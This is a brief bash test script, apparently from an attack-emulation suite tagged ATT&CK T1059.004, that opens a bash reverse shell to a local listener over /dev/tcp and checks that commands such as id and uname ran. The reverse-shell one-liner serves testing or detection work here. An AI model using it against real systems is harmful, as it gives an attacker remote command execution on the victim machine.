#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1059.004
# tactic: execution
# what: bash -i >& /dev/tcp/HOST/PORT 0>&1: the operator runs id, uname, exit
. "$AT_LIB"
port=$(at_free_port)
printf 'id\nuname -a\nexit\n' >"$AT_TMP/cmds"
at_listen "$port" "$AT_TMP/cmds"
bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" >/dev/null 2>&1 || true
wait "$AT_LISTENER" || true
grep -q uid= "$AT_TMP/cmds.out"
